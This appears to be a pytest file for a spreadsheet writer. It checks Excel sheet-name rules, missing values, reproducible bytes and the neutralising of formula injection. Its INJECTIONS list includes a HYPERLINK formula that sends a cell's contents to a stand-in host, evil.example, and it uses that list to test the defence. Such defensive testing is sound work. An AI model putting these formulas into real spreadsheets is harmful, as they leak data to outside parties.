"""The .xlsx writer: Excel's sheet-name rules, empty cells for missing values, the same bytes each time."""

import io
import zipfile

import pandas as pd
import pytest

from zhili_data.exceptions import ParameterError
from zhili_data.report.spreadsheet import MAX_SHEET_NAME, csv_text, sheet_name, workbook_bytes


def test_sheet_names_follow_excels_rules():
    assert sheet_name("a/b:c[d]*?") == "a-b-c-d---"
    assert len(sheet_name("x" * 40)) == MAX_SHEET_NAME
    assert sheet_name("Growth", {"growth"}) == "Growth-2"  # Excel compares names ignoring case
    assert sheet_name("x" * 40, {"x" * 31}) == "x" * 29 + "-2"
    assert sheet_name("''") == "sheet"


def test_the_workbook_reads_back_with_empty_cells_for_missing_values():
    frame = pd.DataFrame({"指标": ["地区生产总值", "人口"], "value": [181.0, None], "note": ["", pd.NA]})
    sheets = pd.read_excel(io.BytesIO(workbook_bytes({"figures": frame, "a/b": frame})), sheet_name=None)
    assert list(sheets) == ["figures", "a-b"]
    back = sheets["figures"]
    assert back["指标"].tolist() == ["地区生产总值", "人口"]
    assert back["value"].iloc[0] == 181.0 and pd.isna(back["value"].iloc[1]) and back["note"].isna().all()


def test_the_same_sheets_give_the_same_bytes():
    frame = pd.DataFrame({"a": [1, 2]})
    first, second = workbook_bytes({"t": frame}), workbook_bytes({"t": frame})
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}


def test_a_workbook_needs_a_sheet():
    with pytest.raises(ParameterError, match="at least one sheet"):
        workbook_bytes({})


INJECTIONS = ['=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")', "@SUM(1+1)", "+1+1", "-1+1", "=1", "#N/A", "\tx"]


def test_every_text_is_a_string_cell_whatever_it_starts_with():
    from openpyxl import load_workbook

    frame = pd.DataFrame({"=header": INJECTIONS, "value": [-1.5] * len(INJECTIONS)})
    book = load_workbook(io.BytesIO(workbook_bytes({"t": frame})))
    cells = [cell for row in book["t"].iter_rows() for cell in row]
    assert [c.data_type for c in cells if c.data_type not in ("s", "n")] == []
    assert [c.value for c in book["t"]["A"]] == ["=header", *INJECTIONS]
    assert [c.value for c in book["t"]["B"]][1:] == [-1.5] * len(INJECTIONS)  # numbers stay numbers


def test_csv_text_neutralises_text_a_spreadsheet_reads_as_a_formula():
    frame = pd.DataFrame({"indicator": [*INJECTIONS, "GDP", "-3.5"], "value": [-1.5] * len(INJECTIONS) + [181.0, 2.0]})
    back = pd.read_csv(io.StringIO(csv_text(frame)), dtype=str, keep_default_na=False)
    formulas = ["'" + t if t[0] in "=+-@\t" else t for t in INJECTIONS]  # '#N/A' is an error only in a workbook
    assert back["indicator"].tolist() == [*formulas, "GDP", "-3.5"]
    assert back["value"].tolist() == ["-1.5"] * len(INJECTIONS) + ["181.0", "2.0"]  # numbers are not text
